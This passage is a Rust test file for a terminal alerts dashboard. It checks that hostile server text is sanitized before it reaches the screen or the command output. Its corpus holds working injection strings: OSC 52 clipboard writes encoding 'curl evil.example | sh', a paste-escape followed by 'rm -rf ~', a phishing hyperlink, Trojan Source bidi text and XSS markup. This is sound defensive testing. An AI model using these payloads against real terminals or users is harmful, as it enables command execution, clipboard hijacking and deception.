//! Hostile text from a server never reaches a terminal raw. A corpus of escape sequences,
//! controls, bidi overrides, invisible and huge strings is put into every string field of an
//! alert and into status names; then every view of the dashboard is drawn, the scripting
//! commands are run and the real dashboard is driven in a pseudo-terminal, and what reaches
//! the screen, stdout, stderr and the terminal's raw bytes is checked.
//!
//! Two servers hold the corpus. The built-in one stores what it is given through the API:
//! titles, descriptions, status names, and `assigned_to` (its operator). It validates entity
//! ids and status keys, so a routed server on loopback answers the same text in every other
//! field (ids, type, status key, colours), written the way a hostile server could write it.

mod common;
#[path = "common/deadline.rs"]
mod deadline;
#[path = "common/forbidden.rs"]
mod forbidden;
#[path = "common/routed.rs"]
mod routed;

use std::collections::{BTreeSet, HashMap};
use std::fmt::Write as _;
use std::time::Duration;

use blnk_alerts::api::{AlertUpdate, ApiError, FlagRequest, NewStatus};
use blnk_alerts::app::{Access, App, Cadence, Cmd, Msg, Overlay, Phase, Settings, UpdateKind};
use blnk_alerts::domain::{ALLOWED_COLOURS, Alert, EntityId, StatusKey, StatusList, sanitize};
use blnk_alerts::server::{self, RunningServer, ServerOptions};
use blnk_alerts::ui::{self, ViewState};
use chrono::{FixedOffset, Utc};
use common::pty::Pty;
use common::{LIMIT, clients, config_for, key};
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use routed::{Answer, Routed};
use serde_json::json;

/// `assigned_to` of every alert the built-in server creates.
const OPERATOR: &str = "Ada\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}nimda\u{9b}2J\u{0}\u{200b}\r\nEvil\u{7f}\u{1b}[1;1H";

/// Names and strings of the hostile corpus.
fn corpus() -> Vec<(&'static str, String)> {
    let fixed: &[(&str, &str)] = &[
        // CSI: colours, cursor movement, clears, modes, reports.
        ("csi colours", "\u{1b}[31mRED\u{1b}[0m \u{1b}[38;2;255;0;0mtrue colour\u{1b}[m"),
        ("csi clear screen", "\u{1b}[2J\u{1b}[3J\u{1b}[H"),
        ("csi cursor home and overwrite", "\u{1b}[1;1HFAKE HEADER: all alerts resolved"),
        ("csi cursor moves", "\u{1b}[5A\u{1b}[10C\u{1b}[2B\u{1b}[3Dmoved"),
        ("csi erase line", "kept\u{1b}[2K\u{1b}[1Kgone"),
        ("csi leave alternate screen", "\u{1b}[?1049l\u{1b}[?25hout of the dashboard"),
        ("csi hide cursor", "\u{1b}[?25l"),
        ("csi device status report", "\u{1b}[6n\u{1b}[5n"),
        ("csi device attributes", "\u{1b}[c\u{1b}[>c"),
        ("csi window title report", "\u{1b}[21t\u{1b}[20t"),
        ("csi resize window", "\u{1b}[8;1;1t\u{1b}[9;1t"),
        ("csi scroll region", "\u{1b}[1;2r\u{1b}[S\u{1b}[T"),
        ("csi blink hidden reverse", "\u{1b}[5;7;8mhidden\u{1b}[0m"),
        ("csi mouse capture on", "\u{1b}[?1000h\u{1b}[?1003h\u{1b}[?1006h"),
        ("csi bracketed paste end", "\u{1b}[201~rm -rf ~\r"),
        ("csi insert and delete lines", "\u{1b}[10L\u{1b}[10M\u{1b}[5@\u{1b}[5P"),
        // OSC: clipboard, titles, hyperlinks, palette, notifications.
        ("osc 52 clipboard write (bel)", "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}"),
        ("osc 52 clipboard write (st)", "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{1b}\\"),
        ("osc 52 clipboard read", "\u{1b}]52;c;?\u{7}"),
        ("osc 0 title", "\u{1b}]0;pwned\u{7}"),
        ("osc 2 title (st)", "\u{1b}]2;pwned\u{1b}\\"),
        ("osc 1 icon name", "\u{1b}]1;icon\u{7}"),
        ("osc 8 hyperlink", "\u{1b}]8;;https://evil.example/login\u{1b}\\Blnk dashboard\u{1b}]8;;\u{1b}\\"),
        ("osc 4 palette", "\u{1b}]4;1;rgb:00/00/00\u{7}\u{1b}]10;#000000\u{7}\u{1b}]11;#000000\u{7}"),
        ("osc 7 working directory", "\u{1b}]7;file://evil.example/tmp\u{7}"),
        ("osc 1337 iterm file", "\u{1b}]1337;File=inline=1;size=4:AAAA\u{7}"),
        ("osc 777 and 9 notifications", "\u{1b}]777;notify;Blnk;Send 2FA code\u{7}\u{1b}]9;ping\u{7}"),
        ("osc unterminated", "\u{1b}]52;c;ZXZpbA==  and the rest of the screen"),
        // DCS, APC, PM, SOS, plain escapes.
        ("dcs request status string", "\u{1b}P$qm\u{1b}\\"),
        ("dcs tmux passthrough", "\u{1b}Ptmux;\u{1b}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}\\"),
        ("dcs sixel", "\u{1b}Pq#0;2;0;0;0#1!6~\u{1b}\\"),
        ("apc kitty graphics", "\u{1b}_Gf=100,a=T;AAAA\u{1b}\\"),
        ("pm and sos", "\u{1b}^privacy message\u{1b}\\\u{1b}Xstart of string\u{1b}\\"),
        ("esc full reset", "\u{1b}cafter reset"),
        ("esc save and restore cursor", "\u{1b}7moved\u{1b}8"),
        ("esc line drawing charset", "\u{1b}(0lqqqk\u{1b}(B"),
        ("esc keypad modes", "\u{1b}=\u{1b}>"),
        // 8-bit C1 controls.
        ("c1 csi", "\u{9b}31mred\u{9b}2J\u{9b}H"),
        ("c1 osc title", "\u{9d}0;pwned\u{9c}"),
        ("c1 dcs and apc", "\u{90}q\u{9c}\u{9f}Gf=100\u{9c}"),
        ("c1 next line and index", "a\u{85}b\u{84}c\u{8d}d"),
        // C0 controls that move or ring.
        ("bells", "ding\u{7}\u{7}\u{7}"),
        ("backspaces overwrite", "approved\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}rejected"),
        ("carriage return overwrites", "Innocent refund of 5 USD\rWire 500,000 USD to evil"),
        ("crlf line endings", "line one\r\nline two\r\n"),
        ("cr cr lf", "a\r\r\nb"),
        ("trailing cr", "trailing\r"),
        ("vertical tab and form feed", "a\u{b}b\u{c}c"),
        ("nul bytes", "nul\u{0}byte\u{0}"),
        ("del", "del\u{7f}ete\u{7f}"),
        ("tabs", "a\tb\t\tc"),
        ("shift out and in", "\u{e}shifted\u{f}"),
        ("escape at the end", "ends with escape\u{1b}"),
        // Bidi (Trojan Source), invisible and format characters.
        ("trojan source", "access_level != \"user\u{202e} \u{2066}// Check if admin\u{2069} \u{2066}\""),
        ("rlo file name", "invoice\u{202e}fdp.exe"),
        (
            "every bidi control",
            "\u{200e}\u{200f}\u{61c}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}",
        ),
        ("zero width characters", "pay\u{200b}pal \u{200c}\u{200d}\u{2060}\u{feff}"),
        ("zwj emoji family", "👨\u{200d}👩\u{200d}👧\u{200d}👦"),
        ("bom", "\u{feff}BOM at the start"),
        (
            "tag characters",
            "\u{e0001}\u{e0068}\u{e0069}\u{e007f} 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        ),
        ("line and paragraph separators", "one\u{2028}two\u{2029}three"),
        ("soft hyphen", "in\u{ad}vis\u{ad}ible"),
        ("hangul fillers", "\u{3164}\u{115f}\u{1160}\u{ffa0}"),
        ("interlinear annotations", "\u{fff9}shown\u{fffa}hidden\u{fffb}"),
        ("invisible operators", "a\u{2061}b\u{2062}c\u{2063}d\u{2064}"),
        ("mongolian vowel separator", "x\u{180e}y"),
        ("variation selectors", "\u{2764}\u{fe0f} \u{2764}\u{fe0e} a\u{e0100}"),
        // Wide, right-to-left and unusual text.
        ("wide cjk", "日本語のタイトル　全角スペース ｱｲｳｴｵ 漢字テスト"),
        ("emoji", "🔥💸🚨 🇯🇵 🏳\u{fe0f}\u{200d}🌈 👍🏽"),
        ("rtl arabic", "تحويل مشبوه إلى حساب خارجي ١٢٣"),
        ("rtl hebrew", "העברה חשודה 123"),
        ("zalgo", "Z\u{337}\u{31b}\u{35d}a\u{334}\u{30c}l\u{336}\u{35b}g\u{335}o\u{338}"),
        ("surrogates as json escapes", "\\ud800\\udc00 \\uDEAD \\u0000 \\u001b[31m"),
        ("json injection", "\",\"status\":\"RESOLVED\",\"assigned_to\":\""),
        ("markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        ("format strings", "%s%n%x {0} {} {{}} $(id) `id`"),
        ("private use and noncharacters", "\u{e000}\u{f8ff}\u{f0000}\u{fffe}\u{ffff}"),
        ("marker lookalikes", "␛[31m ␇ \u{fffd} ⏎ "),
        ("whitespace only", " \t "),
        ("empty", ""),
    ];
    let mut corpus: Vec<(&'static str, String)> = fixed.iter().map(|&(n, s)| (n, s.to_owned())).collect();
    corpus.extend([
        ("every c0 control", (0u8..0x20).map(char::from).collect()),
        ("every c1 control", ('\u{80}'..='\u{9f}').collect()),
        ("10,000 combining marks", format!("Z{}", "\u{301}".repeat(10_000))),
        ("10,000 characters without a space", "W".repeat(10_000)),
        ("5,000 line breaks", "line\n".repeat(5_000)),
        ("1 MB with escapes throughout", huge()),
    ]);
    corpus
}

/// About a megabyte of words, with an escape sequence and a bidi override in every unit.
fn huge() -> String {
    let unit = "transfer \u{1b}[31mred\u{1b}[0m \u{202e}evil\u{202c} 日本 ";
    let mut s = String::with_capacity((1 << 20) + unit.len());
    while s.len() < 1 << 20 {
        s.push_str(unit);
    }
    s
}

use forbidden::forbidden;

/// The first forbidden character in `text`, with some context, if any.
fn first_forbidden(text: &str) -> Option<String> {
    text.char_indices().find(|&(_, c)| forbidden(c)).map(|(at, c)| {
        let before: Vec<char> = text[..at].chars().rev().take(40).collect();
        let before: String = before.into_iter().rev().collect();
        let after: String = text[at..].chars().take(40).collect();
        format!("U+{:04X} at byte {at} in {:?}", u32::from(c), before + &after)
    })
}

fn assert_clean(what: &str, text: &str) {
    if let Some(found) = first_forbidden(text) {
        panic!("{what}: {found}");
    }
}

#[test]
fn the_corpus_is_large_and_hostile() {
    let corpus = corpus();
    assert!(corpus.len() >= 60, "{} strings", corpus.len());
    let names: BTreeSet<_> = corpus.iter().map(|(n, _)| *n).collect();
    assert_eq!(names.len(), corpus.len(), "names are unique");
    let hostile = corpus.iter().filter(|(_, s)| s.chars().any(forbidden)).count();
    assert!(hostile >= 55, "{hostile} strings carry a forbidden character");
    assert!(corpus.iter().any(|(_, s)| s.len() >= 1 << 20), "a megabyte string");
    for needle in ["\u{1b}]52;", "\u{1b}]0;", "\u{1b}]8;", "\u{9b}", "\u{202e}", "\u{2066}", "\u{feff}", "\u{e0001}"] {
        assert!(corpus.iter().any(|(_, s)| s.contains(needle)), "{needle:?} in the corpus");
    }
}

// ---------------------------------------------------------------------------------------------
// The two servers.

/// Descriptions are required and the server trims before it checks.
fn description_for(text: &str) -> String {
    if text.trim().is_empty() { format!("blank payload [{text}]") } else { text.to_owned() }
}

/// Status names are at most 64 characters, trimmed, not empty.
fn status_name_for(text: &str) -> String {
    let clipped: String = text.chars().take(60).collect();
    if clipped.trim().is_empty() { format!("S{clipped}S") } else { clipped }
}

fn entity(i: usize) -> EntityId {
    format!("bln_{i:08x}-3728-4d37-9b5a-c7ed080f09df").parse().expect("valid entity id")
}

/// The built-in server, holding one alert per corpus string (in its title and description,
/// with a status named after it) and the kitchen-sink `OPERATOR` in every `assigned_to`.
async fn built_in_server(corpus: &[(&'static str, String)]) -> RunningServer {
    let options =
        ServerOptions { seed: None, api_key: Some(key()), operator: OPERATOR.to_owned(), ..ServerOptions::demo() };
    let server = server::start(options).await.expect("server starts");
    let (_, writer) = clients(&config_for(server.base_url()));
    for (i, (name, text)) in corpus.iter().enumerate() {
        let status: StatusKey = format!("HOSTILE_{i}").parse().expect("valid key");
        let colour = ALLOWED_COLOURS[i % ALLOWED_COLOURS.len()].to_owned();
        let new = NewStatus { name: status_name_for(text), colour, key: Some(status.clone()) };
        writer.create_status(&new).await.unwrap_or_else(|e| panic!("{name}: status refused: {e}"));
        let request = FlagRequest { title: None, description: description_for(text) };
        let alert = writer.flag(&entity(i), &request).await.unwrap_or_else(|e| panic!("{name}: flag refused: {e}"));
        // The title separately: with the description both megabytes would pass the body limit.
        let update = AlertUpdate { title: Some(text.clone()), description: None, status: Some(status) };
        writer.update(&alert.anomaly_id, &update).await.unwrap_or_else(|e| panic!("{name}: update refused: {e}"));
    }
    server
}

/// The server's own JSON, unsanitized, to prove it holds the corpus as given.
async fn raw_json(server: &RunningServer, path: &str) -> serde_json::Value {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let url = server.base_url().join(path).expect("valid path");
    let response = reqwest::Client::new().get(url).bearer_auth(key().expose()).send().await.expect("answers");
    response.json().await.expect("JSON")
}

async fn assert_stored_as_given(server: &RunningServer, corpus: &[(&'static str, String)]) {
    let alerts = raw_json(server, "alerts").await;
    let alerts = alerts.as_array().expect("an array");
    assert_eq!(alerts.len(), corpus.len());
    let statuses = raw_json(server, "alerts/statuses").await;
    for (i, (name, text)) in corpus.iter().enumerate() {
        let key = format!("HOSTILE_{i}");
        let alert = alerts.iter().find(|a| a["status"] == key.as_str()).unwrap_or_else(|| panic!("{name}: stored"));
        assert_eq!(alert["description"].as_str(), Some(description_for(text).as_str()), "{name}: description");
        let title = if text.trim().is_empty() { None } else { Some(text.as_str()) };
        assert_eq!(alert["title"].as_str(), title, "{name}: title");
        assert_eq!(alert["assigned_to"].as_str(), Some(OPERATOR), "{name}: assigned_to");
        let status = statuses["data"].as_array().and_then(|d| d.iter().find(|s| s["key"] == key.as_str()));
        let status = status.unwrap_or_else(|| panic!("{name}: status stored"));
        assert_eq!(status["name"].as_str(), Some(status_name_for(text).trim()), "{name}: status name");
    }
}

fn timestamp(minutes_ago: usize) -> String {
    let minutes = i64::try_from(minutes_ago).expect("small");
    (Utc::now() - chrono::Duration::minutes(minutes)).to_rfc3339()
}

/// An alert with `text` in every string field, as a hostile server would answer it.
fn every_field(i: usize, text: &str) -> serde_json::Value {
    json!({
        "anomaly_id": format!("ano_hostile_{i}_{text}"),
        "title": text,
        "description": text,
        "type": text,
        "assigned_to": text,
        "escalated_to": [text, format!("user_{i}")],
        "status": text,
        "created_at": timestamp(i),
        "updated_at": timestamp(i),
        "affected_balances": [text],
        "affected_identities": [text],
        "affected_transactions": [text],
    })
}

/// JSON with every non-ASCII character written as a `\u` escape (astral ones as surrogate
/// pairs), as some servers write it.
fn ascii_json(value: &serde_json::Value) -> String {
    let plain = serde_json::to_string(value).expect("encodes");
    let mut out = String::with_capacity(plain.len() * 2);
    for c in plain.chars() {
        if c.is_ascii() {
            out.push(c);
        } else {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{unit:04x}");
            }
        }
    }
    out
}

/// Statuses with hostile keys, names, colours and organisation ids.
fn hostile_statuses(corpus: &[(&'static str, String)]) -> serde_json::Value {
    let data: Vec<serde_json::Value> = corpus
        .iter()
        .map(|(_, text)| json!({"organization_id": text, "key": text, "name": text, "colour": text}))
        .collect();
    json!({"data": data, "allowed_colours": [corpus[0].1, corpus[16].1]})
}

/// A routed server with the corpus in every field: `/alerts` (escaped JSON), `/alerts/statuses`,
/// `/alerts/ano_hostile_{i}` for each alert, and `/alerts/ano_error_{i}` answering an error
/// whose message is the string (JSON or an HTML page). Anything else: 404 with hostile text.
async fn routed_server(corpus: &[(&'static str, String)]) -> Routed {
    let alerts: Vec<serde_json::Value> = corpus.iter().enumerate().map(|(i, (_, t))| every_field(i, t)).collect();
    let mut routes = HashMap::new();
    routes.insert("/alerts".to_owned(), Answer::json(200, ascii_json(&json!(alerts))));
    routes.insert("/alerts/statuses".to_owned(), Answer::json(200, hostile_statuses(corpus).to_string()));
    let codes = [400, 401, 403, 404, 409, 422, 500];
    for (i, (alert, (_, text))) in alerts.iter().zip(corpus).enumerate() {
        routes.insert(format!("/alerts/ano_hostile_{i}"), Answer::json(200, alert.to_string()));
        let error = if i % 2 == 0 {
            Answer::json(codes[i % codes.len()], json!({ "error": text }).to_string())
        } else {
            let body = format!("<html><body>{text}</body></html>").into_bytes();
            Answer::Fixed { status: codes[i % codes.len()], content_type: "text/html", body }
        };
        routes.insert(format!("/alerts/ano_error_{i}"), error);
    }
    let fallback = Answer::json(404, json!({ "error": OPERATOR }).to_string());
    routed::start(routes, fallback).await
}

/// Everything the dashboard would load from both servers, through the real client.
struct Loaded {
    alerts: Vec<Alert>,
    statuses: StatusList,
}

async fn load(built_in: &RunningServer, routed: &Routed) -> Loaded {
    let (reader, _) = clients(&config_for(built_in.base_url()));
    let (hostile_reader, _) = clients(&config_for(routed.url.clone()));
    let mut alerts = reader.list_alerts().await.expect("built-in list");
    alerts.extend(hostile_reader.list_alerts().await.expect("hostile list decodes"));
    let mut statuses = reader.list_statuses().await.expect("built-in statuses");
    statuses.data.extend(hostile_reader.list_statuses().await.expect("hostile statuses decode").data);
    Loaded { alerts, statuses }
}

// ---------------------------------------------------------------------------------------------
// (a) Every view, drawn with `TestBackend`.

fn app_with(loaded: &Loaded) -> App {
    let settings = Settings {
        access: Access::ReadWrite,
        cadence: Cadence::Adaptive(Duration::from_secs(5)),
        bell: false,
        source: "127.0.0.1".into(),
        profile: None,
        me: Vec::new(),
        utc_offset: FixedOffset::east_opt(0).expect("valid offset"),
        keymap: blnk_alerts::keymap::Keymap::default(),
        theme: blnk_alerts::theme::Theme::default(),
        notify: false,
        notify_filter: None,
        views: Vec::new(),
        web_url: None,
        instance_id: None,
    };
    let mut app = App::new(settings, Utc::now());
    let generation = app
        .init()
        .into_iter()
        .find_map(|c| match c {
            Cmd::FetchAlerts { generation, .. } => Some(generation),
            _ => None,
        })
        .expect("a first fetch");
    app.update(Msg::StatusesLoaded(Ok(loaded.statuses.clone())));
    app.update(Msg::AlertsLoaded { generation, result: Ok(loaded.alerts.clone()) });
    app
}

/// Types one string into whatever has the keys.
fn typed_once(app: &mut App, text: &str) {
    for c in text.chars() {
        press(app, KeyCode::Char(c));
    }
}

fn press(app: &mut App, code: KeyCode) -> Vec<Cmd> {
    app.update(Msg::Key(KeyEvent::new(code, KeyModifiers::NONE)))
}

fn ctrl(app: &mut App, c: char) -> Vec<Cmd> {
    app.update(Msg::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::CONTROL)))
}

/// Draws `app` and checks every cell; counts the cells showing a marker.
struct Screens {
    terminals: HashMap<(u16, u16), Terminal<TestBackend>>,
    view: ViewState,
    draws: usize,
    markers: usize,
}

impl Screens {
    fn new() -> Self {
        Self { terminals: HashMap::new(), view: ViewState::default(), draws: 0, markers: 0 }
    }

    fn check(&mut self, app: &App, sizes: &[(u16, u16)], what: &str) {
        for &(width, height) in sizes {
            let terminal = self
                .terminals
                .entry((width, height))
                .or_insert_with(|| Terminal::new(TestBackend::new(width, height)).expect("test terminal"));
            terminal.draw(|f| ui::draw(f, app, &mut self.view)).expect("draws");
            self.draws += 1;
            for cell in terminal.backend().buffer().content() {
                let symbol = cell.symbol();
                let bad = symbol.chars().any(|c| c.is_control() || forbidden(c)) || sanitize(symbol) != symbol;
                assert!(!bad, "{what} at {width}x{height}: cell {symbol:?}\n{}", terminal.backend());
                if symbol.contains(['␛', '\u{fffd}']) {
                    self.markers += 1;
                }
            }
        }
    }
}

const WIDE: (u16, u16) = (140, 40);
const NARROW: (u16, u16) = (80, 40);
const SMALL: (u16, u16) = (40, 12);

/// Every alert selected in turn, in the list (wide and narrow), the detail pane focused and
/// scrolled, the edit form prefilled with its text, and the status picker on it.
fn walk_every_alert(app: &mut App, screens: &mut Screens) {
    press(app, KeyCode::Home);
    for n in 0..app.list.visible_len() {
        let id = app.list.selected_id().expect("a selection").to_string();
        let what = format!("alert {n} ({})", sanitize(&id.chars().take(40).collect::<String>()));
        screens.check(app, &[WIDE, NARROW], &format!("list with {what}"));
        press(app, KeyCode::Tab);
        for _ in 0..3 {
            press(app, KeyCode::Char('j'));
        }
        screens.check(app, &[WIDE], &format!("detail of {what}"));
        press(app, KeyCode::Tab);
        press(app, KeyCode::Char('e'));
        assert!(matches!(app.overlay, Overlay::Form(_)), "the edit form opens on {what}");
        screens.check(app, &[WIDE, SMALL], &format!("edit form of {what}"));
        typed_once(app, "x");
        press(app, KeyCode::Esc);
        assert!(
            matches!(&app.overlay, Overlay::Form(f) if f.phase == Phase::ConfirmDiscard),
            "typed text on {what} is not thrown away without asking"
        );
        screens.check(app, &[WIDE], &format!("discard question on {what}"));
        press(app, KeyCode::Esc);
        assert!(matches!(app.overlay, Overlay::None), "the edit form of {what} closes");
        press(app, KeyCode::Char('t'));
        assert!(matches!(app.overlay, Overlay::Picker(_)), "the picker opens on {what}");
        screens.check(app, &[WIDE], &format!("status picker on {what}"));
        press(app, KeyCode::Esc);
        press(app, KeyCode::Char('j'));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_view_draws_hostile_text_as_visible_markers() {
    let corpus = corpus();
    let loaded = tokio::time::timeout(LIMIT, async {
        let built_in = built_in_server(&corpus).await;
        assert_stored_as_given(&built_in, &corpus).await;
        let routed = routed_server(&corpus).await;
        let loaded = load(&built_in, &routed).await;
        built_in.shutdown().await;
        loaded
    })
    .await
    .expect("servers within the time limit");
    assert_eq!(loaded.alerts.len(), corpus.len() * 2);
    let screens = deadline::within(Duration::from_secs(240), move || {
        let mut screens = Screens::new();
        let mut app = app_with(&loaded);
        walk_every_alert(&mut app, &mut screens);

        // Every status tab in turn: hostile names in the tabs, the list of that status.
        for tab in 0..app.tabs().len() {
            press(&mut app, KeyCode::Char(']'));
            screens.check(&app, &[WIDE], &format!("status tab {tab}"));
        }
        // Help over the hostile list and tabs.
        press(&mut app, KeyCode::Char('?'));
        screens.check(&app, &[WIDE, NARROW, SMALL, (200, 60)], "help");
        press(&mut app, KeyCode::Esc);

        for (name, text) in &corpus {
            // The filter and the picker's search, with the text pasted in.
            press(&mut app, KeyCode::Char('/'));
            app.update(Msg::Paste(text.clone()));
            screens.check(&app, &[WIDE], &format!("filter {name}"));
            press(&mut app, KeyCode::Esc);
            press(&mut app, KeyCode::Char('t'));
            app.update(Msg::Paste(text.clone()));
            screens.check(&app, &[WIDE], &format!("picker search {name}"));
            press(&mut app, KeyCode::Esc);
            // The flag form with the text in every field.
            press(&mut app, KeyCode::Char('f'));
            for _ in 0..3 {
                app.update(Msg::Paste(text.clone()));
                press(&mut app, KeyCode::Tab);
            }
            screens.check(&app, &[WIDE, SMALL], &format!("flag form {name}"));
            press(&mut app, KeyCode::Esc);
            press(&mut app, KeyCode::Esc);
            assert!(matches!(app.overlay, Overlay::None), "{name}: the flag form is discarded");
        }
        screens
    });
    assert!(screens.draws > 1_000, "{} screens drawn", screens.draws);
    assert!(screens.markers > 1_000, "markers shown in place of hostile characters: {}", screens.markers);
}

/// The errors a hostile server could cause, from the client's own constructors, and the same
/// text put straight into every kind of error (the view must cope with either).
fn hostile_errors(text: &str) -> Vec<ApiError> {
    vec![
        ApiError::from_body(500, json!({ "error": text }).to_string().as_bytes(), None),
        ApiError::from_body(502, format!("<html>{text}</html>").as_bytes(), Some(Duration::from_secs(3))),
        ApiError::Status { status: 409, message: text.to_owned(), retry_after: None },
        ApiError::Transport { host: text.to_owned(), reason: text.to_owned() },
        ApiError::Decode(text.to_owned()),
        ApiError::Setup(text.to_owned()),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stale_errors_notices_form_errors_and_conflicts_draw_clean() {
    let corpus = corpus();
    let loaded = tokio::time::timeout(LIMIT, async {
        let built_in = built_in_server(&corpus).await;
        let routed = routed_server(&corpus).await;
        let loaded = load(&built_in, &routed).await;
        built_in.shutdown().await;
        loaded
    })
    .await
    .expect("servers within the time limit");
    let hostile_alerts: Vec<Alert> = loaded.alerts[corpus.len()..].to_vec();
    let screens = deadline::within(Duration::from_secs(240), move || {
        let mut screens = Screens::new();
        let mut app = app_with(&loaded);
        // The edit form stays open (with a change) while each error lands in every place an
        // error shows at once: the form's message, the stale header, the status bar's notice.
        press(&mut app, KeyCode::Home);
        let edited = app.list.selected().expect("a selection").clone();
        press(&mut app, KeyCode::Char('e'));
        app.update(Msg::Paste(" (edited)".into()));
        for (name, text) in &corpus {
            // The client's errors say nothing unsafe themselves.
            for error in &hostile_errors(text)[..2] {
                assert_clean(&format!("{name}: ApiError Display"), &error.to_string());
            }
            for (n, error) in hostile_errors(text).into_iter().enumerate() {
                let id = ctrl(&mut app, 's').into_iter().find_map(|c| match c {
                    Cmd::Update { id, .. } => Some(id),
                    _ => None,
                });
                let id = id.unwrap_or_else(|| panic!("{name}: the edit is sent"));
                app.update(Msg::Updated { id, kind: UpdateKind::Edit, result: Err(error.clone()) });
                // A failed refresh (of any generation) makes the header stale with the error.
                app.update(Msg::AlertsLoaded { generation: 0, result: Err(error.clone()) });
                assert!(app.sync.failure.is_some(), "{name}: stale");
                if n % 2 == 0 {
                    app.update(Msg::StatusesLoaded(Err(error)));
                } else {
                    let kind = UpdateKind::Status { previous: Box::new(edited.clone()) };
                    app.update(Msg::Updated { id: edited.anomaly_id.clone(), kind, result: Err(error) });
                }
                assert!(app.notice.is_some(), "{name}: a notice");
                screens.check(&app, &[WIDE, (60, 20), SMALL], &format!("error {n} of {name}"));
            }
        }
        ctrl(&mut app, 's');
        for latest in hostile_alerts {
            let what = format!(
                "conflict with {}",
                sanitize(&latest.anomaly_id.to_string().chars().take(40).collect::<String>())
            );
            app.update(Msg::EditConflict { latest });
            assert!(matches!(&app.overlay, Overlay::Form(f) if matches!(f.phase, Phase::Conflict { .. })), "{what}");
            screens.check(&app, &[WIDE, NARROW, SMALL], &what);
        }
        screens
    });
    assert!(screens.draws > 1_500, "{} screens drawn", screens.draws);
    assert!(screens.markers > 100, "markers shown: {}", screens.markers);
}

/// A list body with lone surrogates cannot be decoded: the error says so safely; a valid pair
/// and escaped controls decode into markers.
#[tokio::test]
async fn surrogate_escapes_decode_or_fail_safely() {
    tokio::time::timeout(LIMIT, async {
        let template = every_field(0, "x").to_string();
        let lone = template.replace("\"title\":\"x\"", "\"title\":\"\\ud800 \\u001b]52;c;ZXZpbA==\\u0007\"");
        let paired = template.replace("\"title\":\"x\"", "\"title\":\"\\ud83d\\ude00 \\u001b]0;t\\u0007 \\u202e\"");
        assert_ne!(lone, template, "the title was replaced");
        let routes = HashMap::from([
            ("/alerts".to_owned(), Answer::json(200, format!("[{lone}]"))),
            ("/alerts/statuses".to_owned(), Answer::json(200, format!("[{paired}]"))),
            ("/alerts/ano_paired".to_owned(), Answer::json(200, paired)),
        ]);
        let server = routed::start(routes, Answer::json(404, "{}")).await;
        let (reader, _) = clients(&config_for(server.url.clone()));
        let error = reader.list_alerts().await.expect_err("a lone surrogate is not JSON text");
        assert!(matches!(error, ApiError::Decode(_)), "{error:?}");
        assert_clean("lone surrogate error", &error.to_string());
        let error = reader.list_statuses().await.expect_err("an array is not a status list");
        assert_clean("statuses shape error", &error.to_string());
        let alert = reader.get_alert(&"ano_paired".parse().expect("valid id")).await.expect("decodes");
        let title = alert.title.expect("a title");
        assert_eq!(title, "😀 ␛]0;t␇ \u{fffd}");
    })
    .await
    .expect("within the time limit");
}

// ---------------------------------------------------------------------------------------------
// (b) The scripting commands.

fn env_for(url: &url::Url) -> Vec<(&'static str, String)> {
    vec![("BLNK_API_URL", url.to_string()), ("BLNK_API_KEY", key().expose().to_owned())]
}

/// Runs the binary with each argument list, four at a time.
async fn run_all(
    commands: Vec<Vec<String>>,
    url: &url::Url,
    home: &std::path::Path,
) -> Vec<(String, common::cli::Run)> {
    let env = env_for(url);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let mut results = Vec::new();
    for chunk in commands.chunks(4) {
        let runs = chunk.iter().map(|args| {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let env = env.clone();
            async move { (args.join(" "), common::cli::run(&args, &env, home, None).await) }
        });
        results.extend(futures_util::future::join_all(runs).await);
    }
    results
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|&s| s.to_owned()).collect()
}

/// No forbidden character anywhere in what a command printed.
fn assert_clean_run(what: &str, run: &common::cli::Run) {
    // A table piped to a program is tab-separated: the tabs between cells are ours, so each
    // cell is checked on its own.
    let plain = what.ends_with("list") && !what.contains("json");
    let stdout = if plain { run.stdout.replace('\t', " ") } else { run.stdout.clone() };
    assert_clean(&format!("{what}: stdout"), &stdout);
    assert_clean(&format!("{what}: stderr"), &run.stderr);
}

/// A piped table: one tab-separated line of 7 cells per alert, each starting with its id.
fn assert_table_shape(what: &str, stdout: &str, alerts: usize) {
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), alerts, "{what}: one line per alert:\n{}", stdout.chars().take(3_000).collect::<String>());
    for line in &lines {
        assert_eq!(line.split('\t').count(), 7, "{what}: a row of 7 cells: {line:?}");
        assert!(
            line.starts_with("ano_"),
            "{what}: a row that is not an alert: {:?}",
            line.chars().take(200).collect::<String>()
        );
    }
}

/// One alert in full: every line is a field, the description heading, or a description line.
fn assert_detail_shape(what: &str, stdout: &str) {
    const FIELDS: [&str; 11] = [
        "anomaly_id",
        "title",
        "status",
        "type",
        "assigned_to",
        "escalated_to",
        "balances",
        "transactions",
        "identities",
        "created_at",
        "updated_at",
    ];
    let lines: Vec<&str> = stdout.lines().collect();
    for (line, field) in lines.iter().zip(FIELDS) {
        assert!(line.starts_with(&format!("{field:<13}")), "{what}: {field} expected, got {line:?}");
    }
    assert_eq!(lines.get(FIELDS.len()), Some(&"description"), "{what}: the description heading");
    for line in &lines[FIELDS.len() + 1..] {
        assert!(line.starts_with("  ") || line.is_empty(), "{what}: description lines are indented: {line:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scripting_commands_print_no_hostile_character() {
